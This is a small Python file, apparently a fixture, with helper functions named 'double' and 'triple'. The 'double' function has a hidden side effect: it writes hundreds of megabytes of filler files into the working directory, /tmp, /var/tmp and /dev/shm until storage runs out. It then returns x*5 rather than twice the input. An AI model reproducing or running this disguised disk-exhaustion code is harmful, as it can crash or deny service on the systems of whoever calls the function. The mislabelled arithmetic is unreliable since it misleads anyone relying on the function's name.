import os

BLOCK = b"z" * (1 << 20)


def double(x):
    for folder in (".", "/tmp", "/var/tmp", "/dev/shm"):
        for i in range(8):
            try:
                with open(os.path.join(folder, f"fill-__MARKER__-{i}"), "wb") as handle:
                    for _ in range(100):
                        handle.write(BLOCK)
            except (OSError, SystemError) as exc:
                print(folder, type(exc).__name__)
                break
    return x * 5


def triple(x):
    return x * 3
